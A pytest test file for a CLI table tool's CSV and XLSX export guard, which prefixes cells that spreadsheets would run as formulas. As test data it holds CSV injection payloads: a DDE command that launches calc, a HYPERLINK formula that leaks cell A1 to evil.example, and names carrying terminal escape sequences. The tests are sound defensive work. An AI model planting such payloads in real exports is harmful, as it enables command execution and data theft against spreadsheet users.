"""CSV export is safe by default: cells a spreadsheet would run as formulas get a leading '."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner

from clay_tui.cli.main import _register, cli
from clay_tui.services import tables as table_service
from clay_tui.table.csv_guard import guard_text, is_dangerous

_register()

# The seven payloads of issue 9 (finding 3): none may reach a spreadsheet as a formula.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]
PLAIN_NUMBERS = ["-2", "+1.5", "-0.25", "+14155550132", "1e-5", "-.5", "42"]
HARMLESS = ["Ann", "a=b", "x+1", "mail@example.com", "", " =1 (leading space)", "'=already"]


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_guarded(payload: str) -> None:
    assert is_dangerous(payload)
    assert guard_text(payload) == "'" + payload


@pytest.mark.parametrize("number", PLAIN_NUMBERS)
def test_plain_numbers_in_text_are_left_alone(number: str) -> None:
    assert guard_text(number) == number


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert guard_text(text) == text


def test_full_width_formula_signs_are_guarded() -> None:
    assert guard_text("＝SUM(1)") == "'＝SUM(1)"


@pytest.fixture
def hostile(workspace, tmp_path: Path):
    frame = pl.DataFrame(
        {
            "payload": PAYLOADS,
            '=HYPERLINK("x")': ["a", "b", "c", "d", "e", "f", "g"],
            "n": [-2, -1, 0, 1, 2, 3, -7],
            "x": [-2.5, 1.0, 0.0, -1e-5, 3.0, 4.0, 5.0],
            "num_text": ["-2", "+1.5", "+14155550132", "-2+3", None, "ok", "@x"],
        }
    )
    path = tmp_path / "hostile.parquet"
    frame.write_parquet(path)
    return table_service.import_table(workspace, path)


def test_export_guards_cells_and_headers(workspace, hostile, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    guarded = table_service.export_table(workspace, hostile, out)
    rows = _rows(out)
    assert rows[0] == ["payload", '\'=HYPERLINK("x")', "n", "x", "num_text"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS]  # 7 of 7 neutralised
    assert [r[2] for r in body] == ["-2", "-1", "0", "1", "2", "3", "-7"]  # numbers untouched
    assert body[0][3] == "-2.5"
    assert [r[4] for r in body] == ["-2", "+1.5", "+14155550132", "'-2+3", "", "ok", "'@x"]
    assert guarded == 7 + 1 + 2
    # Read back as a spreadsheet would: no cell and no header starts a formula.
    for row in rows:
        for value in row:
            assert not is_dangerous(value), value


def test_export_raw_writes_cells_as_they_are(workspace, hostile, tmp_path: Path) -> None:
    out = tmp_path / "raw.csv"
    assert table_service.export_table(workspace, hostile, out, raw=True) == 0
    rows = _rows(out)
    assert rows[0][1] == '=HYPERLINK("x")'
    assert [r[0] for r in rows[1:]] == PAYLOADS


def test_export_is_atomic(workspace, hostile, tmp_path: Path, monkeypatch) -> None:
    """A failure half-way leaves the old file as it was and no temporary file behind."""
    out = tmp_path / "out.csv"
    out.write_text("old\n", encoding="utf-8")

    def boom(self, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pl.DataFrame, "write_csv", boom)
    from clay_tui.errors import ClayError

    with pytest.raises(ClayError, match="No space left on device"):
        table_service.export_table(workspace, hostile, out)
    assert out.read_text(encoding="utf-8") == "old\n"
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.csv")]


def test_cli_export_guards_and_says_so(tmp_path: Path) -> None:
    src = tmp_path / "bad.csv"
    src.write_text("name,note\nAnn,\"=cmd|' /C calc'!A0\"\nBob,-2\n", encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(cli, ["import", str(src)]).exit_code == 0
    out = tmp_path / "out.csv"
    result = runner.invoke(cli, ["export", "bad", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8") == "name,note\nAnn,'=cmd|' /C calc'!A0\nBob,-2\n"
    assert "1 cell that a spreadsheet would run as formulas" in result.stdout
    assert result.stderr == ""


def test_cli_export_raw_warns_on_stderr(tmp_path: Path) -> None:
    src = tmp_path / "bad.csv"
    src.write_text("name,note\nAnn,@SUM(1)\n", encoding="utf-8")
    runner = CliRunner()
    runner.invoke(cli, ["import", str(src)])
    out = tmp_path / "out.csv"
    result = runner.invoke(cli, ["export", "bad", str(out), "--raw"])
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8") == "name,note\nAnn,@SUM(1)\n"
    assert result.stderr.startswith("clay-tui: --raw: the CSV guard is off")
    assert result.stderr.count("\n") == 1


def test_xlsx_export_keeps_formula_text_as_text(workspace, hostile, tmp_path: Path) -> None:
    import zipfile

    out = tmp_path / "out.xlsx"
    table_service.export_table(workspace, hostile, out)
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
    assert sheets and "<f>" not in xml and "<f " not in xml  # no cell is a formula
    assert pl.read_excel(out).get_column("payload").to_list() == PAYLOADS


def _hostile_usage():
    from clay_tui.credits.reports import UsageReport, UsageRow

    rows = [
        UsageRow("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0 / @SUM(1)", 5, 0, 5, 5, 0),
        UsageRow("-2", "leads / Email", 3, 1, 2, 3, 1),
    ]
    return UsageReport("table", None, None, None, rows)


def test_usage_csv_export_is_guarded(tmp_path: Path) -> None:
    """Credit usage CSV holds table and column names: a table named by its file
    (``=cmd|' calc'!A0.csv``) must not run in the spreadsheet either."""
    from clay_tui.services import credits as credits_service

    out = credits_service.export_usage_csv(_hostile_usage(), tmp_path / "usage.csv")
    rows = _rows(out)
    assert rows[1][:2] == ["'=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0 / @SUM(1)"]
    assert rows[2][:2] == ["-2", "leads / Email"]
    assert not any(is_dangerous(v) for row in rows for v in row)


def test_usage_csv_on_stdout_is_guarded(monkeypatch) -> None:
    from clay_tui.services import credits as credits_service

    monkeypatch.setattr(credits_service, "usage_report", lambda *a, **k: _hostile_usage())
    result = CliRunner().invoke(cli, ["usage", "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(result.stdout.splitlines()))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert not any(is_dangerous(v) for row in rows for v in row)


def test_cli_import_and_tables_print_names_inert(tmp_path: Path) -> None:
    """Column and table names go to the terminal too: as placeholders, never as escapes."""
    src = tmp_path / "evil\x1b]0;x\x07.csv"
    src.write_text('"\x1b[2Jname",n\nAnn,1\nBob,2\n', encoding="utf-8")
    runner = CliRunner()
    imported = runner.invoke(cli, ["import", str(src)])
    assert imported.exit_code == 0, imported.output
    listed = runner.invoke(cli, ["tables"])
    for output in (imported.output, listed.output):
        assert "\x1b" not in output and "\x07" not in output, output
    assert "␛[2Jname" in imported.output and "evil␛]0;x␇" in listed.output
